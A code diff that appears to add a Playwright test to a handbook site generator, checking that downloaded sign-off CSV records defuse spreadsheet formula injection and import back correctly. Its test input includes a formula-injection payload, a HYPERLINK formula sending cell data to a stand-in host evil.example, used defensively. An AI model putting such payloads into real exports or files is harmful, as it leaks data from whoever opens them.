@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import hashlib
 import io
+from pathlib import Path
 
 import pytest
 
@@ -152,3 +153,52 @@ def test_damaged_stored_ticks_and_unknown_placeholders(page, tmp_path):
         page.get_by_role("button", name="Confirm I have read and understood version 2.0").click()
         form = page.locator("[data-signoff-form-link]").get_attribute("href")
         assert form == "https://forms.example.org/r/x?v=2.0&c={constructor}"
+
+
+def test_downloaded_record_neutralises_formulas_and_imports(page, tmp_path):
+    """A name, role or title a spreadsheet would run as a formula is written with a ' in
+    front, and the record still imports as the person's own."""
+    import os
+    import subprocess
+    import sys
+
+    from sites import write_site
+
+    config = site_config(hooks=BOTH_HOOKS, handbook={
+        "fail_on": "never", "history": False, "signoff_records": "staff/records"})
+    root = write_site(tmp_path, {"policies/child-protection.md": policy(
+        "child-protection", title="=1+2 Child protection", version="2.0",
+        approved="2026-01-10", change_summary="Version 2.0.", sign_off=POINTS,
+        body="Text.\n")}, config)
+    built = build(root)
+    assert not built.aborted
+    name = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    with serve(built.site_dir) as url:
+        page.clock.set_fixed_time("2026-11-30T10:00:00")
+        page.goto(url + "policies/child-protection/")
+        for box in page.locator("[data-signoff-policy] input[type=checkbox]").all():
+            box.check()
+        page.get_by_label("Your name").fill(name)
+        page.get_by_label("Your role").fill("@SUM(1+1)")
+        with page.expect_download() as download:
+            page.get_by_role("button", name="Confirm I have read and understood version 2.0")\
+                .click()
+        text = download.value.path().read_text(encoding="utf-8")
+    record = next(csv.DictReader(io.StringIO(text)))
+    assert record["name"] == "'" + name
+    assert record["role"] == "'@SUM(1+1)"
+    assert record["title"] == "'=1+2 Child protection"
+    assert record["policy_id"] == "child-protection" and record["version"] == "2.0"
+    # Every cell of the file, header included, is safe to open in a spreadsheet.
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # `handbook signoff import` reads it back as what the person typed, and writes it safely.
+    (root / "record.csv").write_text(text, encoding="utf-8")
+    result = subprocess.run([str(Path(sys.executable).parent / "handbook"), "signoff",
+                             "import", "record.csv"], cwd=root, capture_output=True, text=True,
+                            timeout=120, env={**os.environ, "HANDBOOK_TODAY": "2026-11-30"})
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "1 rows read: 1 records added" in result.stdout
+    register = (root / "staff/records/sign-offs.csv").read_text(encoding="utf-8")
+    row = next(csv.DictReader(io.StringIO(register)))
+    assert row["name"] == "'" + name and row["role"] == "'@SUM(1+1)"
